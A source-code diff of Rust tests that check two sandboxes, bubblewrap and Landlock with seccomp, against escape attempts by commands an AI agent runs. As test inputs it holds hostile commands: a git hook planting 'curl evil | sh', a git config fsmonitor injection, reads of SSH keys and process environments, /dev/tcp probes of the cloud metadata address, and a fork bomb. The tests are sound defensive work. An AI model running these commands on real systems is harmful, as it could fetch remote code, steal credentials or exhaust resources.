@@ -1,9 +1,9 @@
-//! Escape attempts against the bubblewrap sandbox: each one refused with a result the
-//! model can read, nothing written outside the workspace, and the same command
-//! succeeding where the sandbox allows it.
+//! Escape attempts against both sandboxes, bubblewrap and Landlock plus seccomp: each one
+//! refused with a result the model can read, nothing written outside the workspace, and
+//! the same command succeeding where the sandbox allows it.
 //!
-//! These need bubblewrap (`scripts/test` installs it). Without it they fail under
-//! `CI=true` and are skipped, saying so, elsewhere.
+//! These need bubblewrap (`scripts/test` installs it) and a kernel with Landlock. Without
+//! them they fail under `CI=true` and are skipped, saying so, elsewhere.
 
 use std::io::{Read, Write};
 use std::net::TcpListener;
@@ -30,12 +30,43 @@ struct Sandboxed {
     ctx: ToolContext,
 }
 
+/// The two mechanisms every escape attempt is tried against.
+const MODES: [SandboxMode; 2] = [SandboxMode::Bwrap, SandboxMode::Landlock];
+
+/// What a refused file access says under `mode`: bubblewrap's read-only mounts and
+/// empty folders, or Landlock's refusal.
+fn refused_write(mode: SandboxMode) -> &'static str {
+    match mode {
+        SandboxMode::Landlock => "Permission denied",
+        _ => "Read-only file system",
+    }
+}
+
+fn refused_read(mode: SandboxMode) -> &'static str {
+    match mode {
+        SandboxMode::Landlock => "Permission denied",
+        _ => "No such file or directory",
+    }
+}
+
+fn mode_name(mode: SandboxMode) -> &'static str {
+    match mode {
+        SandboxMode::Landlock => "landlock",
+        _ => "bwrap",
+    }
+}
+
 impl Sandboxed {
-    fn new(network: NetworkAccess, max_processes: u32) -> Option<Self> {
-        Self::with_git(network, max_processes, GitProtection::HooksAndConfig)
+    fn new(mode: SandboxMode, network: NetworkAccess, max_processes: u32) -> Option<Self> {
+        Self::with_git(mode, network, max_processes, GitProtection::HooksAndConfig)
     }
 
-    fn with_git(network: NetworkAccess, max_processes: u32, git: GitProtection) -> Option<Self> {
+    fn with_git(
+        mode: SandboxMode,
+        network: NetworkAccess,
+        max_processes: u32,
+        git: GitProtection,
+    ) -> Option<Self> {
         let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
         let workspace = root.path().join("workspace");
         let home = root.path().join("home");
@@ -50,7 +81,7 @@ impl Sandboxed {
         std::fs::write(workspace.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
         std::fs::write(workspace.join(".git/config"), "[core]\n").unwrap();
         let config = SandboxConfig {
-            mode: SandboxMode::Bwrap,
+            mode,
             network,
             max_processes,
             git,
@@ -107,66 +138,91 @@ fn quoted(path: &Path) -> String {
 
 #[tokio::test]
 async fn writing_outside_the_workspace_is_refused_and_explained() {
-    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
-        return;
-    };
-    let target = sb.outside.join("escaped.txt");
-    let output = sb.run(&format!("echo x > {}", quoted(&target))).await;
-    assert!(!output.success, "{}", output.content);
-    assert!(
-        output.content.contains("Read-only file system"),
-        "{}",
-        output.content
-    );
-    assert!(
-        output
-            .content
-            .contains("note: the sandbox lets commands write only inside the workspace"),
-        "{}",
-        output.content
-    );
-    assert!(!target.exists(), "a file was written outside the workspace");
-    assert_eq!(output.details["sandbox"], "bwrap");
+    for mode in MODES {
+        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
+            return;
+        };
+        let target = sb.outside.join("escaped.txt");
+        let output = sb.run(&format!("echo x > {}", quoted(&target))).await;
+        assert!(!output.success, "{mode:?}: {}", output.content);
+        assert!(
+            output.content.contains(refused_write(mode)),
+            "{mode:?}: {}",
+            output.content
+        );
+        assert!(
+            output.content.contains("note: the sandbox"),
+            "{mode:?}: {}",
+            output.content
+        );
+        assert!(
+            output.content.contains("write only inside the workspace"),
+            "{mode:?}: {}",
+            output.content
+        );
+        assert!(!target.exists(), "{mode:?}: a file was written outside");
+        assert_eq!(output.details["sandbox"], mode_name(mode));
 
-    // The same write inside the workspace, and in the private /tmp, succeeds.
-    let output = sb
-        .run("echo inside > made.txt && echo tmp > /tmp/t && cat /tmp/t")
-        .await;
-    assert!(output.success, "{}", output.content);
-    assert_eq!(
-        std::fs::read_to_string(sb.workspace.join("made.txt")).unwrap(),
-        "inside\n"
-    );
+        // The same write inside the workspace, and in the private temporary folder,
+        // succeeds (`/tmp` under bubblewrap, `$TMPDIR` under Landlock).
+        let output = sb
+            .run("echo inside > made.txt && echo tmp > ${TMPDIR:-/tmp}/t && cat ${TMPDIR:-/tmp}/t")
+            .await;
+        assert!(output.success, "{mode:?}: {}", output.content);
+        assert_eq!(
+            std::fs::read_to_string(sb.workspace.join("made.txt")).unwrap(),
+            "inside\n"
+        );
+    }
 }
 
 #[tokio::test]
 async fn git_hooks_and_config_cannot_be_planted_but_git_work_goes_on() {
-    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
-        return;
-    };
-    for plant in [
-        "echo 'curl evil | sh' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
-        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
-    ] {
-        let output = sb.run(plant).await;
-        assert!(!output.success, "{plant}: {}", output.content);
-        assert!(
-            output.content.contains("Read-only file system"),
-            "{}",
-            output.content
-        );
+    for mode in MODES {
+        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
+            return;
+        };
+        for plant in [
+            "echo 'curl evil | sh' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
+            "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
+        ] {
+            let output = sb.run(plant).await;
+            match mode {
+                // Mounted read-only: the write itself fails.
+                SandboxMode::Bwrap => {
+                    assert!(!output.success, "{plant}: {}", output.content);
+                    assert!(
+                        output.content.contains("Read-only file system"),
+                        "{}",
+                        output.content
+                    );
+                }
+                // Landlock cannot refuse it below the workspace: it is undone, and said.
+                _ => assert!(
+                    output.content.contains("the change was undone"),
+                    "{mode:?} {plant}: {}",
+                    output.content
+                ),
+            }
+            assert!(!sb.workspace.join(".git/hooks/post-checkout").exists());
+            let config = std::fs::read_to_string(sb.workspace.join(".git/config")).unwrap();
+            assert_eq!(config, "[core]\n", "{mode:?}");
+        }
+        // The rest of .git (index, objects, refs) stays writable for ordinary git work.
+        let output = sb.run("echo 'ref: refs/heads/topic' > .git/HEAD").await;
+        assert!(output.success, "{mode:?}: {}", output.content);
+        assert!(!output.content.contains("undone"), "{}", output.content);
     }
-    assert!(!sb.workspace.join(".git/hooks/post-checkout").exists());
-    let config = std::fs::read_to_string(sb.workspace.join(".git/config")).unwrap();
-    assert_eq!(config, "[core]\n");
-    // The rest of .git (index, objects, refs) stays writable for ordinary git work.
-    let output = sb.run("echo 'ref: refs/heads/topic' > .git/HEAD").await;
-    assert!(output.success, "{}", output.content);
 }
 
 #[tokio::test]
 async fn the_whole_git_folder_can_be_made_read_only() {
-    let Some(sb) = Sandboxed::with_git(NetworkAccess::Off, 0, GitProtection::ReadOnly) else {
+    let Some(sb) = Sandboxed::with_git(
+        SandboxMode::Bwrap,
+        NetworkAccess::Off,
+        0,
+        GitProtection::ReadOnly,
+    ) else {
         return;
     };
     let output = sb.run("echo 'ref: refs/heads/evil' > .git/HEAD").await;
@@ -184,62 +240,89 @@ async fn the_whole_git_folder_can_be_made_read_only() {
         "{}",
         output.content
     );
+    // Landlock cannot give that; asking for it is refused, not quietly weakened.
+    let err = Sandbox::resolve(
+        &SandboxConfig {
+            mode: SandboxMode::Landlock,
+            git: GitProtection::ReadOnly,
+            ..SandboxConfig::default()
+        },
+        None,
+        None,
+    )
+    .unwrap_err();
+    assert!(err.to_string().contains("needs bubblewrap"), "{err}");
 }
 
 #[tokio::test]
-async fn ssh_keys_and_the_data_folder_are_hidden() {
-    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
-        return;
-    };
-    for secret in [sb.home.join(".ssh/id_ed25519"), sb.data.join("tasks.db")] {
-        let output = sb.run(&format!("cat {}", quoted(&secret))).await;
-        assert!(!output.success, "{}", output.content);
+async fn ssh_keys_the_data_folder_and_other_runs_are_hidden() {
+    // Another run's workspace, where runs keep theirs (the system's temporary folder).
+    let other_run = tempfile::tempdir().unwrap();
+    std::fs::write(other_run.path().join("secret.txt"), "OTHER-RUN-FILE\n").unwrap();
+    for mode in MODES {
+        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
+            return;
+        };
+        for secret in [
+            sb.home.join(".ssh/id_ed25519"),
+            sb.data.join("tasks.db"),
+            other_run.path().join("secret.txt"),
+        ] {
+            let output = sb.run(&format!("cat {}", quoted(&secret))).await;
+            assert!(!output.success, "{mode:?}: {}", output.content);
+            assert!(
+                output.content.contains(refused_read(mode)),
+                "{mode:?}: {}",
+                output.content
+            );
+            for material in ["PRIVATE-KEY-MATERIAL", "DATABASE-ROWS", "OTHER-RUN-FILE"] {
+                assert!(!output.content.contains(material), "{}", output.content);
+            }
+        }
+        // Other files of the home folder stay readable (tool chains live there).
+        std::fs::write(sb.home.join(".profile"), "PROFILE\n").unwrap();
+        let output = sb
+            .run(&format!("cat {}", quoted(&sb.home.join(".profile"))))
+            .await;
         assert!(
-            output.content.contains("No such file or directory"),
-            "{}",
+            output.success && output.content.contains("PROFILE"),
+            "{mode:?}: {}",
             output.content
         );
-        assert!(!output.content.contains("PRIVATE-KEY-MATERIAL"));
-        assert!(!output.content.contains("DATABASE-ROWS"));
     }
-    // Other files of the home folder stay readable (tool chains live there).
-    std::fs::write(sb.home.join(".profile"), "PROFILE\n").unwrap();
-    let output = sb
-        .run(&format!("cat {}", quoted(&sb.home.join(".profile"))))
-        .await;
-    assert!(
-        output.success && output.content.contains("PROFILE"),
-        "{}",
-        output.content
-    );
 }
 
 #[tokio::test]
-async fn other_processes_and_their_environment_are_invisible() {
-    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
-        return;
-    };
-    let own = std::process::id();
-    let output = sb.run(&format!("cat /proc/{own}/environ")).await;
-    assert!(!output.success, "{}", output.content);
-    assert!(
-        output.content.contains("No such file or directory"),
-        "{}",
-        output.content
-    );
-    // Only the sandbox's own processes are listed.
-    let output = sb.run("ls /proc | grep -c '^[0-9]'").await;
-    let count: u32 = output
-        .content
-        .lines()
-        .find_map(|l| l.trim().parse().ok())
-        .unwrap();
-    assert!(
-        count <= 5,
-        "{} processes visible: {}",
-        count,
-        output.content
-    );
+async fn other_processes_environments_are_unreadable() {
+    for mode in MODES {
+        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
+            return;
+        };
+        let own = std::process::id();
+        let output = sb.run(&format!("cat /proc/{own}/environ")).await;
+        assert!(!output.success, "{mode:?}: {}", output.content);
+        assert!(
+            output.content.contains(refused_read(mode)),
+            "{mode:?}: {}",
+            output.content
+        );
+        assert!(!output.content.contains("PATH="), "{}", output.content);
+        if mode == SandboxMode::Bwrap {
+            // Its own PID namespace: only the sandbox's own processes are listed.
+            let output = sb.run("ls /proc | grep -c '^[0-9]'").await;
+            let count: u32 = output
+                .content
+                .lines()
+                .find_map(|l| l.trim().parse().ok())
+                .unwrap();
+            assert!(
+                count <= 5,
+                "{} processes visible: {}",
+                count,
+                output.content
+            );
+        }
+    }
 }
 
 /// A listener on the host's loopback; returns whether anything connected within a while.
@@ -264,98 +347,108 @@ fn loopback_listener() -> (u16, std::thread::JoinHandle<bool>) {
 
 #[tokio::test]
 async fn without_network_connections_fail_at_once_and_are_explained() {
-    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
-        return;
-    };
-    let (port, connected) = loopback_listener();
-    let output = sb
-        .run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"))
-        .await;
-    assert!(!output.success, "{}", output.content);
-    assert!(
-        !connected.join().unwrap(),
-        "the host's loopback was reached"
-    );
+    for mode in MODES {
+        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
+            return;
+        };
+        let (port, connected) = loopback_listener();
+        let output = sb
+            .run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"))
+            .await;
+        assert!(!output.success, "{mode:?}: {}", output.content);
+        assert!(
+            !connected.join().unwrap(),
+            "{mode:?}: the host's loopback was reached"
+        );
 
-    // The cloud metadata address: refused at once, not a hang until the timeout.
-    let output = sb.run_for("exec 3<>/dev/tcp/169.254.169.254/80", 20).await;
-    assert!(!output.success, "{}", output.content);
-    assert_eq!(output.details["timed_out"], false, "{}", output.content);
-    assert!(
-        output.content.contains("Network is unreachable"),
-        "{}",
-        output.content
-    );
-    assert!(
-        output.content.contains("note: this run has no network"),
-        "{}",
-        output.content
-    );
+        // The cloud metadata address: refused at once, not a hang until the timeout.
+        let output = sb.run_for("exec 3<>/dev/tcp/169.254.169.254/80", 20).await;
+        assert!(!output.success, "{mode:?}: {}", output.content);
+        assert_eq!(output.details["timed_out"], false, "{}", output.content);
+        assert!(
+            output.content.contains("Network is unreachable"),
+            "{mode:?}: {}",
+            output.content
+        );
+        assert!(
+            output.content.contains("note: this run has no network"),
+            "{mode:?}: {}",
+            output.content
+        );
+    }
 }
 
 #[tokio::test]
 async fn with_network_on_the_same_connection_succeeds() {
-    let Some(sb) = Sandboxed::new(NetworkAccess::On, 0) else {
-        return;
-    };
-    let (port, connected) = loopback_listener();
-    let output = sb
-        .run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"))
-        .await;
-    assert!(output.success, "{}", output.content);
-    assert!(
-        output.content.contains("hello from the host"),
-        "{}",
-        output.content
-    );
-    assert!(connected.join().unwrap());
+    for mode in MODES {
+        let Some(sb) = Sandboxed::new(mode, NetworkAccess::On, 0) else {
+            return;
+        };
+        let (port, connected) = loopback_listener();
+        let output = sb
+            .run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"))
+            .await;
+        assert!(output.success, "{mode:?}: {}", output.content);
+        assert!(
+            output.content.contains("hello from the host"),
+            "{}",
+            output.content
+        );
+        assert!(connected.join().unwrap());
+    }
 }
 
 #[tokio::test]
 async fn a_fork_bomb_hits_the_process_cap_and_is_killed() {
-    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 64) else {
-        return;
-    };
-    if sb.ctx.sandbox.summary().max_processes.is_none() {
-        assert_ne!(
-            std::env::var("CI").as_deref(),
-            Ok("true"),
-            "CI runs as root with a writable pids cgroup: the cap must be enforced"
+    for mode in MODES {
+        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 64) else {
+            return;
+        };
+        if sb.ctx.sandbox.summary().max_processes.is_none() {
+            assert_ne!(
+                std::env::var("CI").as_deref(),
+                Ok("true"),
+                "CI runs as root with a writable pids cgroup: the cap must be enforced"
+            );
+            skip("no pids cgroup can be made here");
+            return;
+        }
+        let output = sb
+            .run_for("bomb() { bomb | bomb & }; bomb; sleep 3", 10)
+            .await;
+        assert!(
+            output.content.contains("process limit of the sandbox"),
+            "{mode:?}: {}",
+            output.content
         );
-        skip("no pids cgroup can be made here");
-        return;
+        assert_eq!(output.details["process_cap_hit"], true);
+        // Nothing of it is left: the sandbox still runs commands normally.
+        let output = sb.run("echo alive").await;
+        assert!(output.success, "{mode:?}: {}", output.content);
     }
-    let output = sb
-        .run_for("bomb() { bomb | bomb & }; bomb; sleep 3", 10)
-        .await;
-    assert!(
-        output.content.contains("process limit of the sandbox"),
-        "{}",
-        output.content
-    );
-    assert_eq!(output.details["process_cap_hit"], true);
-    // Nothing of it is left: the sandbox still runs commands normally.
-    let output = sb.run("echo alive").await;
-    assert!(output.success, "{}", output.content);
 }
 
 #[tokio::test]
 async fn a_process_left_running_is_killed_with_the_sandbox() {
-    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
-        return;
-    };
-    // A distinctive duration names the process in the host's process list.
-    let output = sb
-        .run("(setsid sleep 987.654 >/dev/null 2>&1 &); echo started")
-        .await;
-    assert!(output.success, "{}", output.content);
-    let deadline = std::time::Instant::now() + Duration::from_secs(10);
-    while sleeper_running("987.654") {
-        assert!(
-            std::time::Instant::now() < deadline,
-            "the sleeper outlived its command"
-        );
-        std::thread::sleep(Duration::from_millis(50));
+    for (mode, marker) in MODES.into_iter().zip(["987.654", "987.655"]) {
+        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
+            return;
+        };
+        // A distinctive duration names the process in the host's process list.
+        let output = sb
+            .run(&format!(
+                "(setsid sleep {marker} >/dev/null 2>&1 &); echo started"
+            ))
+            .await;
+        assert!(output.success, "{mode:?}: {}", output.content);
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        while sleeper_running(marker) {
+            assert!(
+                std::time::Instant::now() < deadline,
+                "{mode:?}: the sleeper outlived its command"
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
     }
 }
 
